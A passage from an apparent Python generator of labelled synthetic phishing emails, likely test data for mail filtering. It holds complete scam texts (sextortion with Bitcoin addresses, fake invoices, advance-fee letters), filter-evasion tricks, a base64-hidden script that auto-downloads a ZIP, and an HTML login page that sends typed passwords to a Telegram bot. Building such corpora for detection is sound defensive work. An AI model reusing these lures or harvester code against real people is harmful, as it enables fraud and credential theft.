         + alnum("yt", 40) + "&q=" + SHEIN_T.replace(":", "%3A").replace("/", "%2F").replace("?", "%3F")
         .replace("=", "%3D") + "&html_redirect=1"), "#000000", "SHEIN Brasil", filler=50, fstyle=0)),
    "SHEIN gift-card survey lure from a throw-away .website domain (own DKIM), link through a youtube.com/redirect "
    "hop to a vercel.app page.", auth="bestdkim", scl=1)
msg("netflix-pt-pagamento", "phishing", "phish", "pt", "julia", "2025-04-15 08:51:30 -0300",
    ("Netflix", "contato@construtoravaledosol.com.br"),
    "Sua assinatura Netflix foi suspensa - atualize seu pagamento",
    via_host("construtoravaledosol.com.br", "177.185.201.43", "smtpi-kinghost-12.kinghost.net", "contato"),
    lambda m: alt(m, kit(
        m, "https://i.ibb.co/vqL8Hs5/netflix-logo.png", "Vamos resolver o problema com o seu pagamento",
        ["Olá,", "Não conseguimos processar a cobrança da sua assinatura deste mês. Sua conta foi temporariamente "
         "suspensa.", "Atualize sua forma de pagamento para continuar assistindo sem interrupções."],
        ("ATUALIZAR PAGAMENTO", "https://is.gd/nFx7Rq"), "#e50914", "Netflix Entretenimento Brasil Ltda.",
        sign="Equipe Netflix")),
    "Netflix payment-suspended lure sent from a compromised construction-company mailbox at a shared host "
    "(SPF/DKIM/DMARC pass), is.gd shortener to a card-harvesting page.", auth="pass", scl=1)

WPP_JS = ("<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>WhatsApp Web</title></head><body style=\"font-family:"
          "Arial;text-align:center;padding-top:80px\"><img src=\"https://i.ibb.co/0nS9fKp/whatsapp-audio.png\" width="
          "\"120\"><h3>Carregando mensagem de voz...</h3><p>Se o download não iniciar, <a id=\"d\" href=\"#\">clique "
          "aqui</a>.</p><script>var u=atob(\"{u}\");document.getElementById(\"d\").href=u;setTimeout(function(){{"
          "window.location.href=u}},900);</script></body></html>\n")
WPP_URL = "https://audio-mensagem-wpp.s3.us-east-1.amazonaws.com/MensagemDeVoz_0610_8817.zip"

msg("whatsapp-mensagem-voz", "malware", "phish", "pt", "marcos", "2025-06-10 17:39:58 -0300",
    ("WhatsApp", "notificacao@wpp-mensagens.online"),
    "Você recebeu uma nova mensagem de voz (0:47)",
    via_vps("wpp-mensagens.online", "193.42.33.51", "vmi2019441.contaboserver.net", spf="neutral"),
    lambda m: mixed(m, alt(m, kit(
        m, "https://i.ibb.co/0nS9fKp/whatsapp-audio.png", "Nova mensagem de voz",
        ["Você recebeu uma mensagem de voz de <b>+55 21 9****-3318</b> (0:47).",
         "Abra o arquivo anexo para ouvir a mensagem pelo WhatsApp Web."], None, "#25d366", "WhatsApp LLC")),
        html_att("MensagemDeVoz_WhatsApp.html", WPP_JS.format(u=base64.b64encode(WPP_URL.encode()).decode()))),
    "WhatsApp voice-message lure with an HTML attachment whose base64-hidden script immediately downloads a ZIP "
    "from an S3 bucket (malware delivery), sent from a Contabo VPS with SPF neutral.", auth="none", scl=5)
msg("sextorsao-pt", "phishing", "phish", "pt", "julia", "2025-07-22 03:14:27 -0300",
    ("", "julia_ferraz88@hotmail.com"),
    "Tenho acesso ao seu dispositivo - leia com atenção",
    via_vps("hotmail.com", "103.155.92.18", "static-103-155-92-18.vnpt.vn", spf="softfail",
            envelope="julia_ferraz88@hotmail.com", mailer="kit"),
    lambda m: plain(
        "Olá!\n\nInfelizmente tenho más notícias para você.\nHá alguns meses obtive acesso aos dispositivos que você usa "
        "para navegar na internet. Instalei um trojan no sistema operacional e desde então acompanho toda a sua "
        "atividade.\n\nComo você pode ver, enviei este e-mail a partir da SUA conta.\n\nGravei vídeos seus em sites "
        "adultos através da câmera, junto com o que estava sendo exibido na tela. Com um clique posso enviar esse "
        "vídeo para todos os seus contatos de e-mail, WhatsApp e redes sociais.\n\nSe quiser evitar isso, transfira "
        "o equivalente a R$ 6.500 em Bitcoin (BTC) para a minha carteira:\n\nbc1q9x7hm4kz2t3l8wq0v6f5r2ydn8p3gj4us7cea0"
        "\n\nVocê tem 48 horas a partir da abertura deste e-mail. Recebi uma notificação quando você o abriu. "
        "Depois do pagamento apago tudo e você nunca mais ouvirá falar de mim.\n\nNão responda, este endereço não é "
        "monitorado. Não procure a polícia.\n", "8bit"),
    "Portuguese sextortion demanding Bitcoin, From forged as the recipient's own Hotmail address from a VPS "
    "(SPF softfail, DMARC fail p=none), no link.", to="julia_ferraz88@hotmail.com", auth="spoof-none", scl=6)
msg("heranca-advogado-lisboa", "phishing", "phish", "pt", "carla", "2025-08-19 05:22:10 -0300",
    ("Dr. António Vasconcelos", "dr.antonio.vasconcelos.adv@gmail.com"),
    "Herança não reclamada - contato confidencial",
    via_gmail("dr.antonio.vasconcelos.adv@gmail.com"),
    lambda m: plain(
        "Prezada Sra. Menezes,\n\nSou o Dr. António Vasconcelos, advogado em Lisboa, Portugal. Escrevo-lhe a respeito "
        "do espólio do meu falecido cliente, o Sr. Joaquim Menezes, empresário do setor imobiliário que faleceu em "
        "2021 sem deixar testamento nem herdeiros conhecidos.\n\nO banco onde está depositado o montante de "
        "EUR 4.850.000,00 (quatro milhões oitocentos e cinquenta mil euros) deu-me prazo final para apresentar um "
        "parente, caso contrário os fundos serão declarados sem dono e confiscados pelo Estado.\n\nComo a senhora tem "
        "o mesmo apelido, proponho apresentá-la como beneficiária. Tudo será feito de forma legal e partilharemos "
        "o montante: 50% para a senhora, 40% para mim e 10% para despesas.\n\nPor favor responda para o meu e-mail "
        "privado escritorio.vasconcelos.lisboa@outlook.pt com o seu nome completo, telefone e cópia de documento "
        "de identidade.\n\nCom os melhores cumprimentos,\nDr. António Vasconcelos\nAdvogado - Lisboa\n", "8bit"),
    "Advance-fee 'unclaimed inheritance' letter from a Gmail account to a Gmail honeypot forwarded into "
    "Outlook.com, replies steered to a different outlook.pt address; no link.",
    hdrs=["Reply-To: escritorio.vasconcelos.lisboa@outlook.pt"], auth="fwdpass", scl=5,
    gdmarc="dmarc=pass (p=NONE sp=QUARANTINE dis=NONE) header.from=gmail.com")

PIX_DL = (f"https://onedrive.live.com/download?cid={hx('odcid', 16).upper()}&resid={hx('odcid', 16).upper()}%21"
          f"{int(hx('odres', 4), 16)}&authkey=!{alnum('odak', 15)}")
msg("pix-comprovante", "malware", "phish", "pt", "sandra", "2025-09-16 11:48:03 -0300",
    ("Mariana Lopes", "mariana.lopes.decor@outlook.com"),
    "Comprovante Pix R$ 1.450,00 - pagamento da encomenda",
    via_hotmail("mariana.lopes.decor@outlook.com"),
    lambda m: mixed(m, alt(m, html_doc(
        '<div style="font-family:Aptos,Calibri,sans-serif;font-size:12pt">Boa tarde!<br><br>Segue o comprovante do '
        "Pix referente à encomenda, no valor de R$ 1.450,00. Confere por favor e me avisa quando enviar.<br><br>"
        "Obrigada,<br>Mariana</div>")),
        pdf_att("Comprovante_Pix_1450.pdf",
                ["Comprovante de transferencia Pix", "", "Valor: R$ 1.450,00", "Data: 16/09/2025 11:41",
                 "Pagador: MARIANA L***", "", "Este comprovante esta protegido.",
                 "Clique em VISUALIZAR para abrir o documento completo."], PIX_DL, "Comprovante Pix")),
    "Pix-receipt lure from a hijacked Outlook.com account (passes) with a PDF whose button downloads a ZIP from "
    "a OneDrive direct link (malware delivery).", attach=True, auth="pass", scl=1)


# ---- English attacks --------------------------------------------------------------------------

MS_LOGO = "https://i.ibb.co/7vGq3Bn/microsoft-logo.png"

msg("ms-account-deactivation", "phishing", "phish", "en", "tom", "2024-01-23 16:05:12 +0100",
    ("Microsoft Account Team", "no-reply@acct-notice-mx.info"),
    zw("Microsoft account: final notice before closure", "\u200b"),
    via_vps("acct-notice-mx.info", "185.225.74.201", "acct-notice-mx.info"),
    lambda m: only_html(kit(
        m, MS_LOGO, "Your account is scheduled for deactivation",
        ["We received a request to close the Microsoft account <b>tomwalker1979@outlook.com</b>. The request "
         "will be processed within 24 hours and your emails, files and contacts will be permanently deleted.",
         "If you did not make this request, cancel it now and keep your account."],
        ("Cancel deactivation", "https://outlook-verify-live.azurewebsites.net/owa/?login=tomwalker1979%40outlook.com"),
        "#0078d4", "Microsoft Corporation, One Microsoft Way, Redmond, WA 98052", zwt=True, filler=40)),
    "Microsoft account deactivation lure from a throw-away .info domain, zero-width spaces in subject and body, "
    "link to an azurewebsites.net Outlook login clone prefilled with the address.", scl=1)

MS_SIGNIN = (
    '<table width="100%" style="font-family:Segoe UI,Tahoma,Arial;font-size:14px;color:#2a2a2a"><tr><td>'
    '<p style="font-size:17px;color:#707070">Microsoft account</p><p style="font-size:41px;color:#2672ec">Unusual '
    "sign-in activity</p><p>We detected something unusual about a recent sign-in to the Microsoft account "
    '<a href="mailto:k.hendricks82@hotmail.com" style="color:#2672ec">k*****@hotmail.com</a>.</p>'
    "<p><b>Sign-in details</b><br>Country/region: Russia/Moscow<br>IP address: 103.225.77.255<br>Date: 2/15/2024 "
    "11:42 AM (GMT)<br>Platform: Kali Linux<br>Browser: Firefox</p><p>A user from Russia/Moscow just logged into "
    "your account from a new device. If this wasn't you, please report the user. If this was you, we'll trust "
    "similar activity in the future.</p><table><tr><td style=\"background:#2672ec;padding:6px 20px\">"
    '<a href="mailto:securityteam.msonline@outlook.com?subject=Report%20The%20User&amp;body=Report%20The%20User" '
    'style="color:#ffffff;text-decoration:none">Report The User</a></td></tr></table>'
    '<p>To opt out or change where you receive security notifications, <a href="mailto:securityteam.msonline@'
    'outlook.com?subject=Unsubscribe&amp;body=Unsubscribe">click here</a>.</p><p>Thanks,<br>The Microsoft account '
    'team</p><img src="http://thebandalisty.com/track/o38291Gxqk3921mTyz9841Rpd21/Lwv.png" width="1" height="1">'
    "</td></tr></table>")
msg("ms-unusual-signin-mailto", "phishing", "phish", "en", "kate", "2024-02-15 06:44:09 -0500",
    ("Microsoft account team", "no-reply@access-accsecurity.com"),
    "Microsoft account unusual signin activity",
    via_vps("access-accsecurity.com", "45.95.169.58", "mail.access-accsecurity.com", spf="none"),
    lambda m: only_html(html_doc(MS_SIGNIN, "en")),
    "The classic 'unusual sign-in activity' harvester: fake Microsoft alert whose only action links are mailto: to "
    "an attacker Outlook.com address (reply-based follow-up), plus a remote tracking pixel; SPF none.",
    auth="none", scl=5)
msg("netflix-payment-r2", "phishing", "phish", "en", "rick", "2024-04-02 21:17:40 -0400",
    ("Netflix", "billing@acct-update-nfx.us"),
    "Your payment was declined - update your billing details",
    via_vps("acct-update-nfx.us", "172.86.124.190", "acct-update-nfx.us", dkim="acct-update-nfx.us", mailer="kit"),
    lambda m: only_html(kit(
        m, "https://i.ibb.co/vqL8Hs5/netflix-logo.png", "Your membership is on hold",
        ["Hi, we're having some trouble with your current billing information. We'll try again, but in the "
         "meantime you may want to update your payment details.", "Your account will be suspended within 48 hours."],
        ("UPDATE ACCOUNT NOW", "https://pub-2a8f41d6c09e4b7fa1c3d55e90b7f214.r2.dev/netflix/billing.html?sid="
         + alnum("nfr2", 20)), "#e50914", "Netflix, Inc. - 121 Albright Way, Los Gatos, CA 95032",
        filler=80, fstyle=0)),
    "Netflix payment-declined lure from a throw-away .us domain (own DKIM), hidden filler div, link to a "
    "card-harvesting page on r2.dev.", auth="bestdkim", scl=1)
msg("spotify-premium-failed", "phishing", "phish", "en", "tom", "2024-05-21 09:52:31 +0100",
    ("Spotify", "premium@promo-lnx.club"),
    "Your Premium payment failed",
    via_vps("promo-lnx.club", "146.70.87.29", "promo-lnx.club", dkim="promo-lnx.club"),
    lambda m: alt(m, kit(
        m, "https://i.ibb.co/QYx4VQm/spotify-green.png", "We couldn't process your payment",
        ["We tried to charge your card for Spotify Premium Individual (£11.99) but the payment did not go through.",
         "Update your payment method within 3 days to keep listening ad-free."],
        ("Update payment", "https://spotify-billing-premium.web.app/account?uid=" + alnum("sp", 16)), "#1db954",
        "Spotify AB, Regeringsgatan 19, 111 53 Stockholm, Sweden")),
    "Spotify Premium payment-failed lure from a throw-away .club domain (own DKIM), link to a Firebase web.app "
    "billing page.", auth="bestdkim", scl=5)
msg("amazon-prime-pdf", "phishing", "phish", "en", "kate", "2024-06-11 13:29:58 -0400",
    ("Amazon Prime", "prime-renewal@membership-service-am.com"),
    "Action required: your Prime membership could not be renewed",
    via_vps("membership-service-am.com", "104.168.133.77", "mta1.membership-service-am.com", mailer="kit",
            dkim="membership-service-am.com"),
    lambda m: mixed(m, alt(m, kit(
        m, "https://i.ibb.co/YBdK3kZ/amazon-prime.png", "Prime membership renewal failed",
        ["Hello, we were unable to charge the payment method on file for your Prime membership renewal ($139.00).",
         "Please see the attached notice for the steps to restore your benefits."], None, "#232f3e", "Amazon.com")),
        pdf_att("Prime_Renewal_Notice.pdf",
                ["Amazon Prime - Membership Renewal Notice", "", "Account: k.hendricks82@hotmail.com",
                 "Renewal amount: $139.00", "Status: PAYMENT DECLINED", "",
                 "Your Prime benefits will end in 24 hours unless you update your payment method.",
                 "Click below to sign in and update your billing details."],
                "https://prime-membership-renew.pages.dev/signin?ref=" + alnum("apr", 18), "Prime Notice")),
    "Amazon Prime renewal lure from a lookalike domain (own DKIM, DMARC pass) with a PDF notice whose button "
    "links to a pages.dev sign-in clone.", auth="pass", scl=1)
msg("norton-invoice-callback", "phishing", "phish", "en", "rick", "2024-07-30 10:03:44 -0500",
    ("NortonLifeLock", "jennifermorris2291@gmail.com"),
    "Order Confirmation #NL-38821947",
    via_gmail("jennifermorris2291@gmail.com"),
    lambda m: mixed(m, alt(m, '<div dir="ltr">Dear Customer,<br><br>Thank you for your order. Your Norton 360 Deluxe '
                           "subscription has been renewed successfully and <b>$349.99</b> will be debited from your "
                           "account within 24 hours.<br><br>Please find the invoice attached.<br><br>If you did not "
                           "authorize this renewal, contact our billing department at <b>+1 (808) 556-0917</b>.<br><br>"
                           "Regards,<br>Billing Team</div>\n"),
        pdf_att("Invoice_NL-38821947.pdf",
                ["NortonLifeLock Inc. - INVOICE", "", "Invoice no: NL-38821947     Date: 07/30/2024",
                 "Product: Norton 360 Deluxe - 5 devices, 3 years", "Qty: 1      Amount: $349.99",
                 "Payment: auto-debit", "", "To cancel or request a refund call our helpline:",
                 "+1 (808) 556-0917 (Mon-Sat 8AM-8PM)", "", "Thank you for choosing Norton."], None, "Invoice")),
    "Norton renewal callback scam from a freemail Gmail account: no link, a PDF 'invoice' for $349.99 and a phone "
    "number to call for the 'refund'.", auth="pass", scl=1)
msg("mcafee-callback-text", "phishing", "phish", "en", "tom", "2024-08-27 07:38:20 -0400",
    ("McAfee Billing", "brendahollis77@outlook.com"),
    "Your McAfee Total Protection subscription has been renewed",
    via_hotmail("brendahollis77@outlook.com", "NAM10-DM6"),
    lambda m: plain(
        "Hello Customer,\n\nYour subscription for McAfee Total Protection has been successfully renewed and "
        "charged.\n\nTransaction ID: MCF-7731-2209-4418\nProduct: McAfee Total Protection (10 devices)\nAmount: "
        "USD 499.99\nPayment method: Auto debit\n\nThe charge will appear on your statement within 24-48 hours. "
        "If you wish to cancel the renewal and get a refund, please reach our support desk at\n\n"
        "+1 - 8 0 5 - 6 2 1 - 3 3 9 0\n\nRegards,\nMcAfee Billing Department\n\n"
        + words(m, 14, "tail") + "\n"),
    "McAfee renewal callback scam in plain text from a hijacked Outlook.com account (passes), Bcc-mailed, phone "
    "number spaced out to dodge filters, random words at the end; no link.",
    to="brendahollis77@outlook.com", auth="pass", scl=1)

PP_INV = "https://www.paypal.com/invoice/p/#INV2-8KQW-3HZL-7TPD-2YVX"

msg("paypal-invoice-abuse", "phishing", "phish", "en", "kate", "2024-09-10 12:14:05 -0700",
    ("service@paypal.com", "service@paypal.com"),
    "Invoice from Geek Squad Support Services (INV-0091827)",
    via_esp("173.0.84.227", "mx0.slc.paypal.com", "service@paypal.com", [("paypal.com", "pp-dkim1")]),
    lambda m: alt(m, brand(
        m, "https://www.paypalobjects.com/digitalassets/c/website/logo/full-text/pp_fc_hl.png",
        "Geek Squad Support Services sent you an invoice for $489.99 USD",
        ["Due on receipt", "<b>Seller note:</b> Your Geek Squad Total Tech Support plan has been renewed for 3 years. "
         "The amount will be charged today. If you did not authorize this renewal or want a refund, call our "
         "billing team at +1 (844) 902-7716 within 24 hours.",
         "Invoice number: INV-0091827"], ("View and Pay Invoice", PP_INV), "#0070e0",
        [("Help & Contact", "https://www.paypal.com/us/smarthelp/home"), ("Security", "https://www.paypal.com/us/security")],
        "Don't recognize this invoice? Don't pay it. Report it to PayPal.<br>PayPal, Inc. 2211 North First Street, "
        "San Jose, CA 95131", pixel="https://t.paypal.com/ts?v=1&e=" + alnum("ppt", 30))),
    "Genuine PayPal invoice (paypal.com SPF/DKIM/DMARC pass) created by a scammer: the 'seller note' is a Geek "
    "Squad renewal callback scam with a phone number.", auth="pass", scl=1,
    msgid="<" + hx("ppmid", 12) + ".1725995645@paypal.com>")
msg("costco-survey-reward", "phishing", "phish", "en", "rick", "2024-10-15 18:41:27 -0400",
    ("Costco Member Rewards", "rewards@shopr-vlt.icu"),
    "Congratulations! You've been chosen to receive a Ninja Foodi 14-in-1",
    via_vps("shopr-vlt.icu", "5.181.86.133", "shopr-vlt.icu", spf="neutral"),
    lambda m: only_html(img_kit(
        m, "https://i.postimg.cc/mZ8rT4cX/costco-ninja-reward.jpg", "https://t.ly/Cst7k",
        "Costco anniversary survey - claim your Ninja Foodi",
        'Unsubscribe: <a href="https://t.ly/Cst7u">here</a> or write to 2045 Hollow Creek Rd, Dover DE 19901',
        filler=220, fstyle=1)),
    "Costco reward-survey lure: hotlinked image only, t.ly shortener, 220 invisible filler words in font-size:0 "
    "spans, sender .icu domain with SPF neutral.", auth="none", scl=1)
msg("walmart-winner", "phishing", "phish", "en", "tom", "2024-11-05 23:58:12 -0500",
    ("Walmart Rewards", "winner@gftcardz-hub.xyz"),
    "You've won a $750 Walmart gift card!",
    via_vps("gftcardz-hub.xyz", "91.92.253.201", "gftcardz-hub.xyz", mailer="kit"),
    lambda m: only_html(kit(
        m, "https://i.ibb.co/fXk0yWc/walmart-spark.png", "Congratulations, you're a winner!",
        ["Your email was picked in our weekly customer draw. You can claim a <b>$750 Walmart Gift Card</b>.",
         "Just answer 5 short questions about your shopping experience and pay $2.95 shipping."],
        ("CLAIM NOW", "https://walmart-rwrd.s3.us-east-2.amazonaws.com/index.html?e=" + alnum("wm", 16)),
        "#0071dc", "Walmart is not affiliated with this promotion.", zwt=True, filler=60, fstyle=2)),
    "Walmart 'you have won' gift-card survey from a .xyz domain, zero-width characters and hidden text, link to "
    "an S3-hosted page asking for a small card payment.", scl=5)
msg("usps-redelivery", "phishing", "phish", "en", "kate", "2024-12-03 08:07:19 -0500",
    ("USPS", "tracking@usps-redelivery-center.com"),
    "USPS: Your package could not be delivered - incomplete address",
    via_vps("usps-redelivery-center.com", "138.197.71.144", "mail.usps-redelivery-center.com", mailer="kit",
            dkim="usps-redelivery-center.com"),
    lambda m: alt(m, kit(
        m, "https://usps-redelivery-center.com/img/usps-logo.png", "Delivery attempt unsuccessful",
        ["Tracking number: <b>9400 1118 9922 3374 5569 12</b>",
         "Your package arrived at the USPS facility but could not be delivered due to an incomplete address. "
         "Please confirm your address and pay the $1.99 redelivery fee within 12 hours."],
        ("Schedule redelivery", "https://usps-redelivery-center.com/track?id=9400111899223374556912"), "#333366",
        "United States Postal Service")),
    "USPS redelivery-fee lure from a lookalike domain that signs its own mail (DMARC pass), link to the same "
    "domain's card-payment page.", auth="pass", scl=1)

DHL_HTML = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>DHL | Shipping Documents</title>
<style>body{{font-family:Arial;background:#ffcc00}}.b{{background:#fff;width:380px;margin:60px auto;padding:26px}}
input{{width:100%;padding:10px;margin:8px 0}}button{{background:#d40511;color:#fff;border:0;padding:12px;width:100%}}
</style></head><body><div class="b"><img src="https://i.ibb.co/2t0W8bN/dhl-logo.png" width="140">
<p>Sign in with your email account to view the shipping documents (AWB 5812 3390 47).</p>
<input id="e" value="{email}" readonly><input id="p" type="password" placeholder="Email password">
<button onclick="s()">View Documents</button><p id="m" style="color:red"></p></div>
<script>function s(){{var d="Email: "+document.getElementById("e").value+"\\nPass: "+document.getElementById("p").value;
fetch("https://api.telegram.org/bot7148830221:{tok}/sendMessage",{{method:"POST",headers:{{"Content-Type":
"application/json"}},body:JSON.stringify({{chat_id:"-100{chat}",text:d}})}}).then(function(){{document.getElementById("m")
.innerText="Invalid password, try again.";}});}}</script></body></html>
"""

msg("dhl-html-attachment", "phishing", "phish", "en", "tom", "2025-01-08 04:26:51 +0800",
    ("DHL Express", "logistics@pacificrimtrading.com.au"),
    "DHL Shipment Notification : AWB 5812339047 - documents attached",
    via_host("pacificrimtrading.com.au", "103.21.50.88", "cp-syd12.ventraip.net.au", "logistics"),
    lambda m: mixed(m, plain("Dear Customer,\n\nYour parcel is on hold at our facility pending confirmation of the "
                             "shipping documents.\nPlease open the attached file and sign in to view and confirm "
                             "the documents.\n\nDHL Express Customer Service\n"),
                    html_att("DHL_AWB_5812339047.html",
                             DHL_HTML.format(email="tomwalker1979@outlook.com", tok=alnum("tg", 35), chat="19" + str(
                                 int(hx("chat", 8), 16))[:8]))),
    "DHL shipping-documents lure from a compromised Australian business mailbox (passes), HTML attachment with the "
    "recipient's address prefilled that posts the typed password to a Telegram bot.", auth="pass", scl=5)
msg("binance-withdrawal-suspended", "phishing", "phish", "en", "rick", "2025-01-29 14:36:22 +0000",
    ("Binance", "do-not-reply@binance-security-center.com"),
    "[Binance] Withdrawals suspended - identity re-verification required",
    via_vps("binance-security-center.com", "45.148.121.160", "mx.binance-security-center.com", mailer="kit",
            dkim="binance-security-center.com"),
    lambda m: alt(m, kit(
        m, "https://binance-security-center.com/static/binance-logo.png", "Withdrawals temporarily suspended",
        ["Due to updated compliance requirements, withdrawals from your account have been suspended.",
         "To restore withdrawals, complete the re-verification and reconnect your 2FA within 72 hours. Funds in "
         "non-verified accounts will be frozen."],
        ("Verify now", "https://binance-security-center.com/en/my/security/verify?s=" + alnum("bn", 20)), "#f0b90b",
        "Binance Holdings Ltd. Stay SAFU.")),
    "Binance withdrawal-suspension lure from a lookalike domain (own DKIM, DMARC pass) linking to a login, 2FA and "
    "KYC harvesting page on the same domain.", auth="pass", scl=1)
msg("metamask-kyc", "phishing", "phish", "en", "kate", "2025-02-18 11:09:37 -0500",
    ("MetaMask", "support@wallet-verify-hub.net"),
    "MetaMask: mandatory wallet verification (KYC) by February 21",
    via_vps("wallet-verify-hub.net", "193.42.33.207", "wallet-verify-hub.net"),
    lambda m: only_html(kit(
        m, "https://i.ibb.co/5rZ1k3M/metamask-fox.png", "Verify your wallet to avoid restrictions",
        ["Under new regulations all MetaMask wallets must be verified. Unverified wallets will lose access to "
         "swaps and bridges after <b>February 21, 2025</b>.",
         "Verification takes 2 minutes: connect your wallet and confirm your Secret Recovery Phrase."],
        ("Verify wallet", "https://metamask-kyc-verify.pages.dev/?w=" + alnum("mm", 12)), "#f6851b",
        "ConsenSys Software Inc.", filler=45)),
    "MetaMask 'mandatory KYC' lure from a throw-away domain, link to a pages.dev site that asks for the Secret "
    "Recovery Phrase.", scl=1)
msg("trustwallet-airdrop", "phishing", "phish", "en", "tom", "2025-03-18 17:55:03 +0000",
    ("Trust Wallet", "airdrop@twt-rewards-claim.live"),
    "Your $TWT airdrop is ready to claim (1,250 TWT)",
    via_vps("twt-rewards-claim.live", "146.70.87.201", "twt-rewards-claim.live", dkim="twt-rewards-claim.live"),
    lambda m: only_html(kit(
        m, "https://i.ibb.co/N1y6TcL/trust-wallet.png", "1,250 TWT are waiting for you",
        ["As an early Trust Wallet user you qualify for the Season 3 community airdrop.",
         "Connect your wallet before the snapshot closes to receive your tokens."],
        ("Claim airdrop", "https://twt-airdrop-season3.web.app/claim"), "#0500ff", "Trust Wallet",
        filler=30, fstyle=1)),
    "Trust Wallet airdrop lure from a .live domain (own DKIM), link to a web.app wallet-drainer 'claim' page.",
    auth="bestdkim", scl=5)
msg("facebook-copyright", "phishing", "phish", "en", "rick", "2025-04-08 02:31:46 -0700",
    ("Meta for Business", "metabusiness.appeals.center@gmail.com"),
    "Final warning: your page will be permanently deleted (copyright infringement)",
    via_gmail("metabusiness.appeals.center@gmail.com"),
    lambda m: alt(m, '<div dir="ltr"><b>Meta Business Support</b><br><br>Your page has been reported for '
                  "infringing the copyright of another user. According to our Community Standards, your page "
                  "will be permanently deleted within 48 hours.<br><br>Case ID: #1087734921<br><br>If you "
                  "believe this is a mistake, you may submit an appeal:<br>"
                  '<a href="https://meta-appeal-center-case1087734921.vercel.app/">https://www.facebook.com/help/'
                  "appeal/1087734921</a><br><br>Thank you,<br>Meta Policy Team<br>1 Hacker Way, Menlo Park, CA</div>\n"),
    "Facebook copyright-violation appeal lure from a freemail Gmail account with a 'Meta for Business' name; the "
    "displayed facebook.com URL actually points to a vercel.app page harvesting Facebook logins.", auth="pass", scl=1)
msg("instagram-copyright", "phishing", "phish", "en", "kate", "2025-05-13 09:14:28 -0400",
    ("Instagram", "security@igcopyright-review.com"),
    "Copyright violation on your Instagram account",
    via_vps("igcopyright-review.com", "104.168.133.201", "igcopyright-review.com", dkim="igcopyright-review.com",
            mailer="kit"),
    lambda m: alt(m, kit(
        m, "https://i.ibb.co/Zc8JmT4/instagram-wordmark.png", "We've received a copyright complaint",
        ["One of your recent posts has been reported for copyright infringement. If you don't submit an objection "
         "form within 24 hours, your account will be disabled.", "Complaint ID: IG-5583-2291"],
        ("Submit objection", "https://instagram-copyright-center.notion.site/Objection-Form-" + hx("ig", 32)),
        "#c13584", "Meta Platforms, Inc., 1601 Willow Road, Menlo Park, CA 94025")),
    "Instagram copyright-complaint lure from a lookalike domain (own DKIM, DMARC pass), link to a notion.site page "
    "that forwards to a login clone.", auth="pass", scl=1)
msg("sextortion-en", "phishing", "phish", "en", "tom", "2025-06-17 01:02:55 +0200",
    ("", "tomwalker1979@outlook.com"),
    "Security Alert: your account has been compromised",
    via_vps("outlook.com", "177.53.118.62", "mail.provedornet.com.br", spf="fail", envelope="tomwalker1979@outlook.com",
            mailer="kit"),
    lambda m: plain(
        "Hello!\n\nI have some bad news for you. Several months ago I gained access to the devices you use to browse "
        "the internet and have been tracking your activity since then.\n\nAs you can see, I sent you this email "
        "from your own account.\n\nI recorded you through your webcam while you were watching adult websites, "
        "together with what was on the screen. One click and the video goes to all your contacts and social "
        "networks.\n\nTo make this go away, send $1450 in Bitcoin to this address:\n\n"
        "bc1qm4x8z7e2yk0l9rwn3vq5h6gt2ps8dj7fu0ea3c\n\nYou have 48 hours. I get a notification as soon as you "
        "read this. Once paid, I delete everything.\n\nDo not reply - this mailbox is not monitored.\n", "7bit"),
    "English sextortion with a Bitcoin address, From forged as the recipient's own Outlook.com address from a "
    "hijacked Brazilian server (SPF fail, DMARC fail p=none); no link.", to="tomwalker1979@outlook.com",
    auth="spoof-none", scl=6)
msg("advance-fee-donation", "phishing", "phish", "en", "rick", "2025-07-08 15:47:10 +0000",
    ("Mrs. Lisa Robinson", "lisarobinson.charity1@hotmail.com"),
    "Donation of $1,500,000.00 to you",
    via_hotmail("lisarobinson.charity1@hotmail.com", "NAM12-BN8"),
    lambda m: plain(
        "Dear Beneficiary,\n\nI am Mrs. Lisa Robinson, a winner of the $394 million Powerball jackpot. My husband and "
        "I decided to donate part of our winnings to randomly selected email users, and your email came out in "
        "our charity draw.\n\nYou have been awarded the sum of $1,500,000.00 (One Million Five Hundred Thousand "
        "Dollars). To process your donation, send the following to our paying agent, Barrister James Cole, at "
        "barr.jamescole.office@gmail.com:\n\nFull name:\nAddress:\nPhone:\nOccupation:\nCopy of ID:\n\nPlease note that a "
        "small processing fee will apply for the transfer.\n\nGod bless you,\nMrs. Lisa Robinson\n"),
    "Advance-fee 'lottery winner donation' from a hijacked Hotmail account (passes), replies steered to a Gmail "
    "'barrister'; no link.", hdrs=["Reply-To: barr.jamescole.office@gmail.com"], auth="pass", scl=5)

SP_LINK = (f"https://brennanlogisticsllc-my.sharepoint.com/:b:/g/personal/kbrennan_brennanlogisticsllc_com/"
           f"E{alnum('spl', 46)}?e={alnum('spe', 6)}")
msg("sharepoint-share-abuse", "phishing", "phish", "en", "kate", "2025-08-05 10:21:39 -0500",
    ("Kelly Brennan", "no-reply@sharepointonline.com"),
    'Kelly Brennan shared "Remittance Advice 08-2025" with you',
    via_m365("40.107.212.93", "brennanlogisticsllc.com", "no-reply@sharepointonline.com",
             [("sharepointonline.com", "selector1")]),
    lambda m: alt(m, brand(
        m, "https://res-1.cdn.office.net/files/odsp-web-prod_2025-07-25.008/images/sharepoint_logo.png",
        "Kelly Brennan shared a file with you",
        ['<b>Here is the remittance for this month. Please review and confirm receipt.</b>',
         '<a href="' + SP_LINK + '">Remittance Advice 08-2025.pdf</a>',
         "This link will work for anyone."], ("Open", SP_LINK), "#0f6cbd",
        [("Privacy Statement", "https://go.microsoft.com/fwlink/?LinkId=521839")],
        "Microsoft Corporation, One Microsoft Way, Redmond, WA 98052")),
    "Genuine SharePoint Online sharing notification (sharepointonline.com passes) sent from a compromised "
    "business tenant; the shared 'remittance' PDF leads to a credential-phishing page.", auth="pass", scl=1,
    msgid=f"<{guid('spmid')}@odspnotify>")

DS_LINK = (f"https://na4.docusign.net/Signing/EmailStart.aspx?a={guid('dsa')}&etti=24&acct={guid('dsacct')}"
           f"&er={guid('dser')}")
msg("docusign-abuse", "phishing", "phish", "en", "rick", "2025-09-02 13:05:17 -0700",
    ("Accounts Payable via Docusign", "dse_NA4@docusign.net"),
    "Complete with Docusign: Remittance_Advice_Q3_2025.pdf",
    via_esp("64.207.219.135", "mailo-ph2.docusign.net", "bounces+dse_na4@docusign.net",
            [("docusign.net", "s2048")]),
    lambda m: alt(m, brand(
        m, "https://na4.docusign.net/Signing/Images/email/Email_Logo.png",
        "Accounts Payable sent you a document to review and sign.",
